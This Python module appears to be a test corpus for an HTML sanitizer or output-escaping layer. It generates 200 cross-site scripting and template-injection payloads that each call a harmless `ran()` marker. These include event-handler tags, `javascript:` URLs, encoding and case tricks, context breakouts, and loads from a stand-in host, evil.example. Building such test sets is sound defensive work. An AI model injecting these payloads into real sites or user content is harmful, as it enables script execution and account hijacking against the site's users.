"""Two hundred texts that would run something on a page that trusted them; each calls `ran()`."""

from itertools import product

_TAGS = [
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "iframe onload",
    "object data=x onerror",
    "marquee onstart",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "a href=x onmouseover",
]
_BREAKS = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--&gt;",
    "</style>",
    "]]>",
    "`>",
]
_WHOLE = [
    "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<script/x>ran()</script>", "<scr<script>ipt>ran()</script>", "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "data:text/html,<script>ran()</script>",
    "{{constructor.constructor('ran()')()}}", "{{ ''.__class__.__mro__ }}", "{% for x in ().__class__ %}{% endfor %}", "${ran()}", "#{ran()}", "<%= ran() %>", "[[${ran()}]]",
    "' onfocus=ran() autofocus x='", '" onfocus=ran() autofocus x="', '\\"-ran()-\\"', "'-ran()-'", "';ran();//", '";ran();//', "\\u003cscript\\u003eran()\\u003c/script\\u003e", "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "%3Cscript%3Eran()%3C/script%3E",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", '<noscript><p title="</noscript><img src=x onerror=ran()>">', "<template><img src=x onerror=ran()></template>", "<svg><script>ran()</script></svg>", "<svg><a xlink:href='javascript:ran()'><text y=20>x</text></a></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<form action='javascript:ran()'><button>x</button></form>", "<base href='http://evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<a href='javascript:ran()'>x</a>", "<button formaction='javascript:ran()'>x</button>", "<style>@import 'http://evil.example/x.css'</style>", "<link rel=prefetch href='http://evil.example/'>", "<img src='http://evil.example/pixel.png'>",
    "<!--><script>ran()</script>-->", "<![CDATA[<script>ran()</script>]]>", "<?xml version='1.0'?><script>ran()</script>", "<x onclick=ran() style='position:fixed;inset:0'>", "<script >ran()</script>", "<img src=`x`onerror=ran()>", "<img\tsrc=x\tonerror=ran()>", "<img/src=x/onerror=ran()>", "<IMG SRC=x ONERROR=ran()>", "<<img src=x onerror=ran()>", "<embed src='javascript:ran()'>", "<img src=x onerror='ran()' alt='", "<style>*{background:url(javascript:ran())}</style>", "<div style='background:url(javascript:ran())'>x</div>",
]  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys([*_WHOLE, *(f"{lead}<{tag}=ran()>" for lead, tag in product(_BREAKS, _TAGS))])
)[:200]
assert len(PAYLOADS) == 200
